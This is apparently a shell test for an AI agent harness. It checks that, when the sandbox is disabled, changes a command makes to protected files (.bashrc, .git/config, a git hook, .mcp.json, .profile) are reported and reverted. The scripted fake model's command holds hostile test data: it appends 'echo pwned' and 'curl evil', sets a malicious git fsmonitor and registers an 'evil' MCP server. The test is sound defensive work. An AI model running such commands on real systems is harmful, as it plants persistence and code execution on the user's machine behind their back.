# Without the sandbox (--dangerously-run-commands-unsandboxed) nothing binds
# the protected files that exist read-only, so a command can rewrite them in
# place: the person's .bashrc, the folder's .git/config, an existing git hook,
# .mcp.json (and remove one: .profile). Under the sandbox those writes fail;
# here the command ran, and each change is reported to the model and the
# person, and put back as it was after the command's checkpoint: the
# checkpoint holds the command's version of a file outside .git, and one in
# .git (which checkpoints do not hold) is moved aside, where nothing runs
# it. The hook keeps its execute bit. Before, nothing was said and every
# change stayed.
. "$DH_TESTS/lib.sh"
G=$T/work; mkdir -p "$G/.git/hooks"
printf '[core]\n' > "$G/.git/config"
printf '#!/bin/sh\nexit 0\n' > "$G/.git/hooks/pre-push"; chmod 755 "$G/.git/hooks/pre-push"
echo 'alias ll="ls -l"' > "$G/.bashrc"; chmod 600 "$G/.bashrc"
echo 'PATH=$PATH:/opt' > "$G/.profile"
echo '{"mcpServers": {}}' > "$G/.mcp.json"
cat > "$T/script.json" <<'JSON'
{"turns": [
 {"tool_calls": [{"name": "propose_plan", "input": {"steps": [{"title": "x"}]}}]},
 {"tool_calls": [{"name": "run_command", "input": {"command": "echo 'echo pwned' >> .bashrc; printf '\\tfsmonitor = evil\\n' >> .git/config; echo 'curl evil' >> .git/hooks/pre-push; echo '{\"mcpServers\": {\"x\": {\"command\": \"evil\"}}}' > .mcp.json; rm .profile; echo fine > ok.txt"}}]},
 {"tool_calls": [{"name": "run_command", "input": {"command": "cat .bashrc"}}]},
 {"text": "done", "stop_reason": "end_turn"}
]}
JSON
start_fake "$T/script.json"
out=$("$DESKHAND" run --grant "$G" --approve-plan --mode auto --json \
  --dangerously-run-commands-unsandboxed "x" 2>"$T/err") || { cat "$T/err"; fail "run failed"; }
res=$(jq -r 'select(.type=="tool_result" and .name=="run_command").output' <<<"$out" | head -20)
echo "$res"
assert_contains "$res" "this command changed $G/.bashrc, a protected path"
assert_contains "$res" "this command changed $G/.git/config, a protected path"
assert_contains "$res" "this command changed $G/.git/hooks/pre-push, a git hook"
assert_contains "$res" "this command changed $G/.mcp.json, a protected path"
assert_contains "$res" "this command removed $G/.profile, a protected path"
# each one is as the person had it
assert_eq "$(cat "$G/.bashrc")" 'alias ll="ls -l"'
assert_eq "$(stat -c %a "$G/.bashrc")" 600
assert_eq "$(cat "$G/.git/config")" '[core]'
assert_eq "$(cat "$G/.git/hooks/pre-push")" "$(printf '#!/bin/sh\nexit 0')"
assert_eq "$(stat -c %a "$G/.git/hooks/pre-push")" 755
assert_eq "$(cat "$G/.mcp.json")" '{"mcpServers": {}}'
assert_eq "$(cat "$G/.profile")" 'PATH=$PATH:/opt'
assert_eq "$(cat "$G/ok.txt")" fine
# the command's versions in .git are aside, where nothing runs them
assert_contains "$(cat "$G/.git/config.removed-by-deskhand-1")" "fsmonitor = evil"
assert_contains "$(cat "$G/.git/hooks/pre-push.removed-by-deskhand-1")" "curl evil"
# the model (its next request) and the person (an audit event) are told
req=$(sed -n 3p "$FAKE_LOG")
assert_contains "$req" "put back $G/.bashrc as the person had it"
assert_contains "$req" "put back $G/.git/config as the person had it; the command's version is at $G/.git/config.removed-by-deskhand-1"
assert_contains "$req" "put back $G/.git/hooks/pre-push as the person had it"
audit=$(jq -r 'select(.type=="audit" and .name=="run_command").detail' <<<"$out")
assert_contains "$audit" "put back $G/.mcp.json"
assert_contains "$audit" "put back $G/.profile"
cd "$G"
"$DESKHAND" log --json > "$T/log.json" || fail "log"
changes() { jq -r --arg l "$1" '[.[] | select(.label | startswith($l))][0] | [.changes[] | .status + " " + .path] | join(",")' "$T/log.json"; }
assert_eq "$(changes 'turn 2: run_command')" "M .bashrc,M .mcp.json,D .profile,A ok.txt"
assert_eq "$(changes 'deskhand took back')" "M .bashrc,M .mcp.json,A .profile"
# the copies kept on disk for an engine killed while a command runs are
# gone once the command's put-back is done (or had nothing to do)
[ -z "$(find "$T" -name protected-copies)" ] || fail "the copies on disk outlived the command"
echo ok
